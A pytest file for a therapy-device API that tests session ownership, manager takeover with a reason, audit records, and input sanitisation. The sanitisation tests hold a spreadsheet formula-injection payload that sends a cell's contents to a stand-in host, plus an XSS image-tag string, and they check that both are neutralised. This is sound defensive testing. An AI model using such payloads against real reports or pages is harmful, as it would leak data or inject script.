"""Session ownership over the real API (issue 15.1, 15.5 CSV, 15.6 role and identifiers).

A second therapist can neither treat in a colleague's session nor see its client
code nor watch it; a manager watches and takes it over with a reason; anyone
stops it, and the record says who in which role.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed

from .api_rig import SecureApi, next_message, secure_api


@pytest.fixture
async def api(tmp_path: Path) -> AsyncIterator[SecureApi]:
    async with secure_api(tmp_path) as api:
        yield api


async def test_only_the_owner_treats_and_sees_the_client(api: SecureApi) -> None:
    mine = await api.login("therapist")
    other = await api.login("therapist2")
    sid = await api.open_session(mine, client_ref="C-7731")
    for path, body in [
        ("zone", {"zone_id": "cheeks"}),
        ("depth", {"depth_um": 1000}),
        ("stroke-rate", {"rate_hz": 100}),
        ("arm", None),
        ("pause", None),
        ("end", None),
    ]:
        r = await api.http.post(f"/api/sessions/{sid}/{path}", json=body, headers=other)
        assert r.status_code == 403, (path, r.text)
        problem = r.json()
        assert problem["code"] == "not_session_owner"
        assert "t-demo" in problem["message"] and "manager" in problem["remediation"]
    # Nothing changed: the owner's session has no zone, no depth, and is still running.
    session = (await api.http.get(f"/api/sessions/{sid}", headers=mine)).json()
    assert (session["current_zone"], session["state"], session["client_ref"]) == (
        None,
        "active",
        "C-7731",
    )
    assert session["mine"] is True

    # Lists and reads show the colleague's session, without the client.
    listed = (await api.http.get("/api/sessions", headers=other)).json()
    [row] = [s for s in listed if s["session_id"] == sid]
    assert row["client_ref"] is None and row["mine"] is False
    assert row["therapist_id"] == "t-demo"
    seen = (await api.http.get(f"/api/sessions/{sid}", headers=other)).json()
    assert seen["client_ref"] is None and seen["mine"] is False
    report = await api.http.get(f"/api/sessions/{sid}/report", headers=other)
    assert report.json()["client_ref"] is None
    csv_text = (await api.http.get(f"/api/sessions/{sid}/report.csv", headers=other)).text
    assert "C-7731" not in csv_text
    for name in ("therapist2", "manager"):
        token = (await api.login(name))["Authorization"]
        raw = await api.http.get(f"/api/sessions/{sid}", headers={"Authorization": token})
        assert "C-7731" not in raw.text, name
    manager = await api.login("manager")
    audit = await api.http.get("/api/audit", params={"session_id": sid}, headers=manager)
    assert audit.status_code == 200 and "C-7731" not in audit.text
    assert any(r["details"].get("plan_id") == "full_face" for r in audit.json())

    # Anyone signed in stops the pen; the record names the role as it is.
    admin = await api.login("admin")
    assert (await api.http.post(f"/api/sessions/{sid}/stop", headers=other)).status_code == 200
    assert (await api.http.post(f"/api/sessions/{sid}/stop", headers=admin)).status_code == 200
    stops = [r["message"] for r in await api.audit("stop")]
    assert any("stopped by the therapist (t-demo-2)" in m for m in stops), stops
    assert any("stopped by the admin (a-demo)" in m for m in stops), stops


async def test_the_live_stream_is_the_owners_and_the_managers(api: SecureApi) -> None:
    mine = await api.login("therapist")
    sid = await api.open_session(mine, client_ref="C-7731")
    other = (await api.login("therapist2"))["Authorization"].removeprefix("Bearer ")
    async with connect(api.ws_url(sid, other)) as ws:
        error = await next_message(ws, {"type": "error"})
        assert error["code"] == "not_session_owner" and error["remediation"]
        with pytest.raises(ConnectionClosed) as closed:
            await ws.recv()
        assert closed.value.rcvd is not None and closed.value.rcvd.code == 4403
    manager = (await api.login("manager"))["Authorization"].removeprefix("Bearer ")
    async with connect(api.ws_url(sid, manager)) as ws:
        hello = await next_message(ws, {"type": "hello"})
        assert hello["session"]["client_ref"] is None and hello["session"]["mine"] is False


async def test_a_manager_takes_the_session_over_with_a_reason(api: SecureApi) -> None:
    therapist = await api.login("therapist")
    manager = await api.login("manager")
    sid = await api.open_session(therapist)
    token = therapist["Authorization"].removeprefix("Bearer ")
    async with connect(api.ws_url(sid, token)) as ws:
        await next_message(ws, {"type": "hello"})
        r = await api.http.post(
            f"/api/sessions/{sid}/take-over", json={"reason": "x"}, headers=manager
        )
        assert r.status_code == 422 and "reason" in r.json()["message"]
        r = await api.http.post(
            f"/api/sessions/{sid}/take-over", json={"reason": "covering"}, headers=therapist
        )
        assert r.status_code == 403 and r.json()["code"] == "role_not_permitted"
        reason = "t-demo called away; client consented to continue"
        r = await api.http.post(
            f"/api/sessions/{sid}/take-over", json={"reason": reason}, headers=manager
        )
        assert r.status_code == 200, r.text
        assert r.json()["therapist_id"] == "m-demo" and r.json()["client_ref"] == "C-1042"
        # The former owner's stream ends (within its 1 s ownership check).
        started = time.monotonic()
        error = await next_message(ws, {"type": "error"}, within=3)
        assert error["code"] == "not_session_owner"
        assert time.monotonic() - started < 2.0
    r = await api.http.post(
        f"/api/sessions/{sid}/zone", json={"zone_id": "cheeks"}, headers=therapist
    )
    assert r.status_code == 403 and r.json()["code"] == "not_session_owner"
    r = await api.http.post(
        f"/api/sessions/{sid}/zone", json={"zone_id": "cheeks"}, headers=manager
    )
    assert r.status_code == 200, r.text
    [record] = [r for r in await api.audit("session") if r["details"].get("action") == "take_over"]
    assert record["details"]["reason"] == reason
    assert record["details"]["previous_owner"] == "t-demo" and record["session_id"] == sid


async def test_report_csv_cells_cannot_become_formulas(api: SecureApi) -> None:
    therapist = await api.login("therapist")
    manager = await api.login("manager")
    sid = await api.open_session(therapist)
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    for zone, reason in (("cheeks", evil), ("chin", "+1 per protocol"), ("forehead", "@SUM(A1)")):
        body = {"zone_id": zone, "reason": reason, "max_passes": 2}
        r = await api.http.post(f"/api/sessions/{sid}/overrides", json=body, headers=manager)
        assert r.status_code == 200, r.text
    text = (await api.http.get(f"/api/sessions/{sid}/report.csv", headers=therapist)).text
    rows = {row["zone_id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["cheeks"]["override_reason"] == "'" + evil
    assert rows["chin"]["override_reason"] == "'+1 per protocol"
    assert rows["forehead"]["override_reason"] == "'@SUM(A1)"
    assert rows["nose"]["override_reason"] == "" and rows["nose"]["max_passes"] == "2"


@pytest.mark.parametrize(
    ("port", "status", "code"),
    [("<img src=x onerror=alert(1)>", 422, "bad_request"), ("room9", 404, "unknown_pen")],
)
async def test_a_session_port_must_name_a_configured_pen(
    api: SecureApi, port: str, status: int, code: str
) -> None:
    auth = await api.login("therapist")
    body = {"port": port, "client_ref": "C-1", "plan_id": "full_face"}
    r = await api.http.post("/api/sessions", json=body, headers=auth)
    assert (r.status_code, r.json()["code"]) == (status, code), r.text
    problem = r.json()
    if status == 422:
        assert problem["errors"][0]["field"] == "body.port"
        assert "/api/devices" in problem["message"] and "<img" not in r.text
    else:
        assert "room1" in problem["remediation"]
    assert (await api.http.get("/api/sessions", headers=auth)).json() == []
    r = await api.http.get("/api/devices/%3Cimg%3E", headers=auth)
    assert r.status_code == 422
